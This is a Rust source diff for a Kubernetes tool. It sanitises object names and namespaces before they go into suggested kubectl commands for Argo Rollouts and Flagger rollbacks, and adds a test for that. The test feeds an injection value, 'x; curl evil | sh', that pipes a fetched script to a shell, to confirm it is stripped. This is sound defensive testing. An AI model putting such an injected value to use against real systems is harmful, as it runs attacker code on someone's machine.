@@ -50,6 +50,18 @@ fn owned_by(object: &Value, kind: &str) -> Option<String> {
         .map(|owner| text_at(owner, "/name").unwrap_or_default().to_owned())
 }
 
+/// Returns a name and the object's namespace as a person can paste them; what is no name of Kubernetes's is
+/// not pasted.
+fn in_a_command(object: &Value, name: Option<&str>) -> String {
+    let is_name = |text: &&str| {
+        let plain = |c: char| c.is_ascii_lowercase() || c.is_ascii_digit() || "-.".contains(c);
+        !text.is_empty() && text.chars().all(plain)
+    };
+    let name = name.filter(is_name).unwrap_or("NAME");
+    let namespace = text_at(object, "/metadata/namespace").filter(is_name);
+    format!("{name} -n {}", namespace.unwrap_or("NAMESPACE"))
+}
+
 fn argo_rollouts(object: &Value) -> Option<Owner> {
     let name = owned_by(object, "Rollout");
     let marked = annotation(object, "argo-rollouts.argoproj.io/managed-by-rollouts");
@@ -57,7 +69,7 @@ fn argo_rollouts(object: &Value) -> Option<Owner> {
         return None;
     }
     let name = name.or_else(|| marked.map(str::to_owned));
-    let rollout = name.as_deref().unwrap_or("NAME");
+    let rollout = in_a_command(object, name.as_deref());
     Some(Owner {
         kind: "argo_rollouts".to_owned(),
         effect: OwnerEffect::Locks,
@@ -66,7 +78,7 @@ fn argo_rollouts(object: &Value) -> Option<Owner> {
                   change by hand would not last."
                 .to_owned(),
         hint: Some(format!(
-            "kubectl argo rollouts promote {rollout}, or abort {rollout}"
+            "kubectl argo rollouts promote {rollout}, or kubectl argo rollouts abort {rollout}"
         )),
         name,
     })
@@ -78,7 +90,7 @@ fn flagger(object: &Value) -> Option<Owner> {
     if name.is_none() && !marked && !is_managed_by(object, "flagger") {
         return None;
     }
-    let canary = name.as_deref().unwrap_or("NAME");
+    let canary = in_a_command(object, name.as_deref());
     Some(Owner {
         kind: "flagger".to_owned(),
         effect: OwnerEffect::Locks,
@@ -234,6 +246,17 @@ mod tests {
         ] {
             assert_eq!(told(metadata.clone()), expected, "{metadata}");
         }
+    }
+
+    #[test]
+    fn a_command_holds_nothing_but_names() {
+        let hint = |name: &str| {
+            let metadata =
+                json!({"namespace": "shop", "ownerReferences": [{"kind": "Canary", "name": name}]});
+            owner(&json!({"metadata": metadata})).unwrap().hint.unwrap()
+        };
+        assert!(hint("podinfo").starts_with("kubectl patch canary podinfo -n shop "));
+        assert!(hint("x; curl evil | sh").starts_with("kubectl patch canary NAME -n shop "));
     }
 
     #[test]
